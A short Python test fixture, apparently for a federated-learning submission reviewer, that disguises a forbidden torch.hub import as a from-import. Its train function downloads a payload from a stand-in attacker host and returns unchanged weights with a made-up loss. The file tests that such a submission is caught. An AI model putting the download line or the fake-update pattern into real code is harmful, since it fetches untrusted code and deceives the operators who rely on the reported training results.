"""Imports `torch.hub` by a from-import instead of an attribute.

Expected to be stopped by: the steward's static review (denied, never runs).
"""

import numpy as np
from torch import hub

EXPECT = "review"
FINDING = "torch.hub is always forbidden"


def unchanged(weights):
    """The global weights, as a valid-looking (empty) update."""
    return {name: np.array(value, dtype=np.float32) for name, value in weights.items()}


def train(data, weights, config):
    hub.download_url_to_file("http://attacker.example/payload", "payload.py")
    return {"weights": unchanged(weights), "num_examples": len(data), "metrics": {"loss": 0.5}}


def evaluate(data, weights, config):
    """A harmless evaluation, so the module is a complete submission."""
    return {"num_examples": len(data), "metrics": {"correct": 0, "loss_sum": 0.0}}
